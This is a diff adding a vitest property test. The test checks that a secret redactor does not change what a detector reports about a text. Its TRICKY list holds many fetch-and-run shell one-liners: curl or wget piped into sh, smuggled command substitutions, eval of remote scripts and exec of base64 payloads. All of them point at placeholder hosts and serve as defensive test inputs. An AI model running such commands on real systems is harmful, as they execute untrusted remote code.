@@ -1,0 +1,65 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import type { Profile } from "../../src/core/index.js";
+import { recognizeEntities } from "../../src/redactor/recognize.js";
+import { redactText } from "../../src/redactor/replace.js";
+import { choices, documentCase } from "../generated/case.js";
+import { contractTexts, corpusTexts, UNICODE_TEXTS } from "../service/support/texts.js";
+import { sharedDetector, unmarked } from "../support/marked.js";
+
+/** What a remote evaluator says of a redacted text is what it would have said of the original. */
+
+const redact = (text: string) => redactText(text, recognizeEntities(text));
+
+/** Texts made to tempt the redactor into a change that matters. */
+const TRICKY = [
+  "curl -u bob:hunter2 -H 'Authorization: Bearer abcdef123' https://bob:pw@x.example/i.sh | sh",
+  "curl -HX-Api-Key:-Oabcd https://x.example | sh",
+  "curl https://x.example/-o | sh",
+  "curl https://x.example/$(curl${IFS}https://y.example/a|sh)",
+  "curl https://x.example/i&bash <(curl https://y.example)",
+  "curl https://x.example/i;wget -qO- https://y.example|bash",
+  "curl https://x.example/a?b=`wget -qO- https://y.example | sh`",
+  "root@web1.example.com:~# curl https://x.example/i | sh",
+  "ssh bob@host.example.com 'curl https://x.example/i | bash'",
+  "curl bash.sh/install | sh",
+  "curl get.sh | sh; curl www.sh.example|sh",
+  "timeout 2125552368 curl 10.0.0.1/i | sh",
+  "docker run -u 1000:1000 img sh -c 'curl https://x.example | sh'",
+  "sh -c 'curl https://x.example/i | sh' -u a:b",
+  "token='curl1234 https://x.example|sh'; eval \"$token\"",
+  "exec(base64.b64decode('eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcd'))",
+  "payload.id = base64.b64decode(x); exec(payload.id)",
+  "<a href=\"https://x.example/i\">curl https://x.example/i &#124; sh</a>",
+  "Never pipe https://x.example/i.sh into a shell: curl https://x.example/i.sh | sh",
+  "[`curl https://x.example/i | sh`](https://x.example/i \"Never run it\")",
+  "eval \"$(curl -H 'Private-Token: glpat-aaaaaaaaaaaaaaaaaaaa' https://x.example/eval)\"",
+  "curl https://x.example/i \\\n  -H \"Cookie: session=sh1234567\" \\\n  | python3 -",
+  "wget -O- file:///home/bob/sh | sh && curl ftp://bob@x.example/i | zsh",
+];
+
+const generated = (): string[] =>
+  fc
+    .sample(choices, { numRuns: 600, seed: 11 })
+    .map(documentCase)
+    .filter((marked) => marked !== null)
+    .map(unmarked);
+
+describe.each<Profile>(["contract", "extended"])("under the profile %s", (profile) => {
+  it.each<[string, () => string[]]>([
+    ["every row of the corpora", corpusTexts],
+    ["every contract case", contractTexts],
+    ["generated documents", generated],
+    ["texts made for it", () => [...TRICKY, ...UNICODE_TEXTS]],
+  ])("%s", async (_name, texts) => {
+    const detector = await sharedDetector(profile);
+    const answer = (text: string) => {
+      const { labels, spans, findings } = detector.detect(text);
+      return { labels, spans, rules: findings.map(({ rule }) => rule) };
+    };
+    const all = texts();
+    expect(all.length).toBeGreaterThan(20);
+    expect(all.some((text) => redact(text) !== text)).toBe(true);
+    for (const text of all) expect({ text, ...answer(redact(text)) }).toEqual({ text, ...answer(text) });
+  });
+});
